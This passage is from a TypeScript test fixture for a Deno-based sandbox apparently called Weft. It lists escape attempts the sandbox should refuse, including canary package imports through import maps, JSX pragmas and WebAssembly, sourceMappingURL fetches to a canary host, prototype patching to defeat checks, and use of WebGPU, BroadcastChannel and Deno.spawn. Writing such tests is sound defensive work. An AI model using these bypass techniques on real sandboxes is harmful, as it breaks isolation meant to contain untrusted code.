    "evil.tsx": "/** @jsxRuntime automatic */\n/** @jsxImportSource npm:weft-canary-al */\nexport default <a />;",
  }),
  asks("by a map of its source", `const s = "./evil.js"; await import(s).catch((e) => { throw new Error(e.stack); })`, {
    "evil.js": 'throw new Error("x");\n//# sourceMappingURL=http://weft-canary.example/evil.js.map',
  }),
  asks(
    "by a map of evaluated text",
    `try { (0, eval)('throw new Error("x")\\n//# sourceURL=https://weft-canary.example/a.js\\n//# sourceMappingURL=https://weft-canary.example/a.map'); } catch (e) { void e.stack; }`,
  ),
  asks("by require", `const s = "./evil.cjs"; await import(s)`, { "evil.cjs": 'require("npm:weft-canary-am");' }),
  asks("by a file that has no extension", `const s = "./evil"; await import(s)`, {
    "evil": 'import "npm:weft-canary-an";',
  }),
  asks("by its own package.json", `const s = "weft-canary-ao"; await import(s)`, {
    "package.json": '{ "dependencies": { "weft-canary-ao": "1.0.0" }, "imports": { "#a": "npm:weft-canary-ap" } }',
  }),
  asks("by its own deno.json", `const s = "canary"; await import(s)`, {
    "deno.json": '{ "imports": { "canary": "npm:weft-canary-aq" } }',
  }),
  asks("by a name of Weft's own packages", `const s = "commander"; return (await import(s)).Command`),
  asks("by its own name for its modules", `const s = "guest:///npm:weft-canary-ar"; await import(s)`),
  asks("by the name of what is refused", `const s = "refused:npm:weft-canary-as"; await import(s)`),
  asks("by a module of WebAssembly", `const s = "./evil.wasm"; await import(s)`, {
    "evil.wasm": "\0asm\x01\0\0\0\x01\x04\x01\x60\0\0\x02\x15\x01\x11npm:weft-canary-b\x01a\0\0",
  }),
  asks(
    "by files that it patched names for",
    `String.prototype.startsWith = () => true; Set.prototype.has = () => true; globalThis.URL = class { href = "npm:weft-canary-at"; }; const s = "npm:weft-canary-at"; await import(s)`,
  ),
];

const elsewhere: readonly Escape[] = [
  refused("WebGPU", () => `return await (await navigator.gpu.requestAdapter()).requestDevice()`),
  refused("WebGPU's class", () => `return await GPU.prototype.requestAdapter.call(navigator.gpu)`),
  refused(
    "WebGPU by navigator's prototype",
    () => `return await Object.getPrototypeOf(navigator).gpu.requestAdapter()`,
  ),
  refused("locks that others see", () => `return await navigator.locks.request("x", () => "held")`),
  refused(
    "a bitmap",
    () => `return await createImageBitmap(new Blob([new Uint8Array(8)]), { resizeWidth: 1e5, resizeHeight: 1e5 })`,
  ),
  refused("a channel to others", () => `return new BroadcastChannel("x")`),
  refused("signals", () => `Deno.addSignalListener("SIGINT", () => {}); return "listens"`),
  refused("Weft's exit code", () => `Deno.exitCode = 7; return "set"`),
  refused("Weft's arguments", () => `return Deno.args.length + 1`),
  refused("a span for telemetry", () => `return Deno.telemetry.tracerProvider`),
  refused("a program by Deno.spawn", () => `return Deno.spawn("true")`),
  refused("a test of Deno's", () => `Deno.test("x", () => {}); return "registered"`),
  refused(
    "put back what was taken",
    () => `globalThis.Deno = undefined; delete globalThis.caches; return globalThis.caches ?? "gone"`,
  ),
  refused(
    "what was taken, by a function made of text",
    () => `return new Function("return globalThis.caches ?? this.caches ?? self.caches")()`,
  ),
];

/** All of them. */
export const escapes: readonly Escape[] = [
  ...files,
  ...imports,
  ...network,
  ...system,
  ...kernel,
  ...requests,
  ...elsewhere,
];

/**
 * What a Deno without `registerHooks` (2.4) can't deny, and what its binaries can't besides: they don't check what is
 * imported. docs/sandbox.md says so.
 */
export const gaps: Readonly<Record<"old" | "oldBinary", readonly string[]>> = {
  old: ["package from npm", ...spellings.map(importOf), ...requests.map(({ name }) => name)],
  oldBinary: [
    ...spellings.map(importOf),
    "node:inspector",
    "node:worker_threads",
    "umask",
    "package from npm",
    "ask by a name of Weft's own packages",
    "static JSON import",
    "static module import",
    "computed JSON import",
    "computed module import",
    "relative module import",
    "import through data",
    "import in eval",
    "import in new Function",
  ],
};

/** What an inner worker says, or undefined when it says nothing. */
function inner(options: string, url: string): string {
  return `return await new Promise((ok) => { const w = new Worker(${url}, ${options}); w.onmessage = (e) => ok(e.data); ` +
    `w.onerror = (e) => { e.preventDefault(); ok(undefined); }; setTimeout(() => { w.terminate(); ok(undefined); }, 2000); })`;
}
